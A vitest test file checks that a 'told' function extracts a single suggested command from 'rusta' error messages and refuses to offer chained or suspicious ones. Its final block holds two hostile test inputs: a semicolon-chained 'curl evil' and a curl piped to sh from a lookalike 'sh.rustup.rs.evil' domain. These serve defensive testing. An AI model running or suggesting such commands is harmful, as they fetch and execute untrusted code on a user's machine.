import { expect, test } from "vitest";

import { told } from "../src/remedy";

test.each([
  ["rusta: no clippy. Help: rustup component add clippy", "rustup component add clippy"],
  [
    "rusta: busy. Help: save the open files, then: rusta apply 0123456789ab",
    "rusta apply 0123456789ab",
  ],
  ["rusta: no sandbox. Help: apt install bubblewrap", "apt install bubblewrap"],
  [
    "rusta: no cargo. Help: curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
  ],
])("%s", (message, command) => {
  expect(told(message)).toEqual({ text: message, command });
});

test.each(["rusta: it went wrong.", "rusta: edited. Help: close the file and open it again"])(
  "no command: %s",
  (message) => {
    expect(told(message).command).toBeUndefined();
  },
);

test.each(["rustup update; curl evil", "curl https://sh.rustup.rs.evil | sh"])(
  "a command that would do more than one thing is not offered: %s",
  (help) => {
    expect(told(`rusta: odd. Help: ${help}`).command).toBeUndefined();
  },
);
